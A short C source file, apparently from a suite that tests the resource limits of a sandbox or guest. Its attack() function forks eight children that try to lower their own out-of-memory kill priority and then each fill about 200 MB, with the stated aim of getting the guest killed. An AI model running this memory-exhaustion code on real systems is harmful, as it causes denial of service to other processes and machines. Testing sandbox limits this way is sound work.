/* Resources: as before, and each child asks the kernel to end all others first, so that the guest would be killed. */
#include "attack.h"

static void attack(void)
{
    for (int i = 0; i < 8; i++)
        if (fork() == 0) {
            static const char *const scores[] = {"-1000", "-500", "0", "1", "500"};
            for (size_t score = 0; score < sizeof scores / sizeof *scores; score++) {
                const int fd = open("/proc/self/oom_score_adj", O_WRONLY);
                if (fd >= 0 && write(fd, scores[score], strlen(scores[score])) > 0)
                    break;
                close(fd);
            }
            for (int taken = 0; taken < 200; taken++) {
                char *block = malloc(1 << 20);
                if (block != NULL)
                    memset(block, 1, 1 << 20);
            }
            sleep(1);
            _exit(0);
        }
    while (wait(NULL) > 0)
        continue;
}
